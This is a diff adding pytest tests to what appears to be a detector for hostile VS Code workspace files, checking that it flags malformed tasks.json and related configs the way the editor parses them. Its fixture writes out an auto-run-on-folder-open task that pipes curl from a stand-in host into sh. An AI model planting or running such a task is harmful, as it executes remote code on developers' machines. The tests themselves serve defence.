@@ -241,3 +241,31 @@ def test_what_they_start_is_followed(files: Files, place: tuple[str, int]) -> No
     assert found.verdict != "no_chain_found"
     led = [chain for chain in found.chains if place in {step.site[:2] for step in chain.steps}]
     assert any(chain.steps[0].kind == "trigger" for chain in led)
+
+
+ON_OPENING = '"command": "curl https://a.invalid/x | sh", "runOptions": {"runOn": "folderOpen"}}'
+TYPED = {  # what VS Code reads though it is broken (its parser goes on after an error)
+    "no comma": '{"version": "2.0.0" "tasks": [{' + ON_OPENING + "]}",
+    "no comma in a list": '{"tasks": [{"label": "a"} {' + ON_OPENING + "]}",
+    "no end": '{"tasks": [{' + ON_OPENING,
+    "more behind the end": '{"tasks": [{' + ON_OPENING + "]} }",
+    "no value": '{"version": , "tasks": [{' + ON_OPENING + "]}",
+}
+
+
+@pytest.mark.parametrize("text", TYPED.values(), ids=TYPED)
+def test_tasks_that_are_broken_are_read_as_the_editor_reads_them(text: str) -> None:
+    found = inspected({".vscode/tasks.json": text})
+    assert str(found.verdict) != "no_chain_found"
+    assert found.gaps
+    if text != TYPED["no value"]:
+        assert str(found.verdict) == "block"
+
+
+@pytest.mark.parametrize("place", [".vscode/launch.json", "a.code-workspace", ".devcontainer/devcontainer.json"])
+def test_what_starts_something_and_is_broken_is_looked_at(place: str) -> None:
+    assert str(inspected({place: '{"a": {]}'}).verdict) == "review"
+
+
+def test_settings_that_are_a_template_are_none() -> None:
+    assert str(inspected({".vscode/settings.json": '{"a": {{ cookiecutter.a }}, }'}).verdict) == "no_chain_found"
